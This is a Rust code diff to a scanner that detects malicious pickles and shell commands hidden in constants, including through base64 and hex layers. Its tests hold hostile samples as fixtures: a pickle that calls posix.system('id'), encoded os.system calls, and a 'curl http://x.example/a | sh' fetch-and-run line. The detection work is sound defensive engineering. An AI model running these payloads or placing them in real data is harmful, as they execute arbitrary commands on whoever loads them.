@@ -3,7 +3,7 @@
 use weighbridge_core::{Result, pickle};
 
 use crate::danger::Dangers;
-use crate::encoded::{self, Codec};
+use crate::encoded;
 use crate::globals::{Catalogue, Standing};
 use crate::inner::{self, Inner};
 use crate::subject::Use;
@@ -196,7 +196,7 @@ impl Looker {
             let Some(bytes) = constant(&trace, node) else {
                 continue;
             };
-            if may_hide(bytes) {
+            if may_hide(bytes, wanted) {
                 found = self.layer(bytes, wanted, layers)?;
                 if found.is_some() {
                     break;
@@ -223,9 +223,13 @@ pub(crate) fn constant<'t>(
 }
 
 /// One glance: whether a constant may hide anything at all.
-pub(crate) fn may_hide(data: &[u8]) -> bool {
+pub(crate) fn may_hide(data: &[u8], wanted: Wanted) -> bool {
     if data.len() < SHORTEST_PICKLE {
         return false;
+    }
+    // A command line has words; the first is looked up before anything else is done.
+    if wanted.commands && data.contains(&b' ') {
+        return true;
     }
     let head = data.get(..data.len().min(64 << 10)).unwrap_or_default();
     // Code calls; a long constant without a call in its first part is no program.
@@ -251,10 +255,19 @@ fn looks_like_pickle(data: &[u8]) -> bool {
 /// What a pickle that breaks off names, when it is a listed danger. Only for what was encoded:
 /// nobody encodes the beginning of a pickle without meaning to hide it.
 fn head_of_pickle(data: &[u8]) -> Result<Option<String>> {
-    if data.len() < SHORTEST_PICKLE || !inner::begins_pickle(data) || !data.contains(&b'\n') && !data.contains(&0x93) {
+    if data.len() < SHORTEST_PICKLE
+        || !inner::begins_pickle(data)
+        || !data.contains(&b'\n') && !data.contains(&0x93)
+    {
         return Ok(None);
     }
-    let trace = pickle::run(data, &inner::limits());
+    // The last line may lack its end too.
+    let mut whole = data
+        .get(..data.len().min(64 << 10))
+        .unwrap_or_default()
+        .to_vec();
+    whole.push(b'\n');
+    let trace = pickle::run(&whole, &inner::limits());
     let catalogue = Catalogue::builtin()?;
     Ok(trace
         .globals
@@ -305,7 +318,9 @@ mod tests {
     }
 
     fn hex(data: &[u8]) -> Vec<u8> {
-        data.iter().flat_map(|b| format!("{b:02x}").into_bytes()).collect()
+        data.iter()
+            .flat_map(|b| format!("{b:02x}").into_bytes())
+            .collect()
     }
 
     const EVIL: &[u8] = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.";
@@ -318,12 +333,19 @@ mod tests {
             (base64(EVIL), &["base64"]),
             (hex(EVIL), &["hex"]),
             (base64(&hex(EVIL)), &["base64", "hex"]),
-            (base64(&base64(&base64(EVIL))), &["base64", "base64", "base64"]),
+            (
+                base64(&base64(&base64(EVIL))),
+                &["base64", "base64", "base64"],
+            ),
             // Only the head, but encoded.
             (base64(b"cposix\nsystem\n"), &["base64"]),
+            (base64(b"cposix\nsystem"), &["base64"]),
         ] {
             let found = look(&data).unwrap_or_else(|| panic!("{}", data.escape_ascii()));
-            assert!(matches!(&found.found, Found::Pickle(w) if w.contains("posix.system")), "{found:?}");
+            assert!(
+                matches!(&found.found, Found::Pickle(w) if w.contains("posix.system")),
+                "{found:?}"
+            );
             assert_eq!(found.layers, layers);
         }
         // A pickle of a pickle.
@@ -340,9 +362,18 @@ mod tests {
             Some(Found::Code { name, .. }) => Some(name),
             _ => None,
         };
-        assert_eq!(name(b"os.system('echo ATTACK')").as_deref(), Some("os.system"));
-        assert_eq!(name(b"b3Muc3lzdGVtKCdlY2hvIEFUVEFDSycp").as_deref(), Some("os.system"));
-        assert_eq!(name(&hex(b"import os\nos.system('x')")).as_deref(), Some("os.system"));
+        assert_eq!(
+            name(b"os.system('echo ATTACK')").as_deref(),
+            Some("os.system")
+        );
+        assert_eq!(
+            name(b"b3Muc3lzdGVtKCdlY2hvIEFUVEFDSycp").as_deref(),
+            Some("os.system")
+        );
+        assert_eq!(
+            name(&hex(b"import os\nos.system('x')")).as_deref(),
+            Some("os.system")
+        );
         let command = look(&base64(b"curl http://x.example/a | sh")).unwrap();
         assert!(matches!(command.found, Found::Command(_)));
     }
@@ -368,7 +399,12 @@ mod tests {
             b"lambda x: x + 1",
             b"(a comment) and more.",
         ] {
-            assert!(look(data).is_none(), "{} {:?}", data.escape_ascii(), look(data));
+            assert!(
+                look(data).is_none(),
+                "{} {:?}",
+                data.escape_ascii(),
+                look(data)
+            );
         }
     }
 
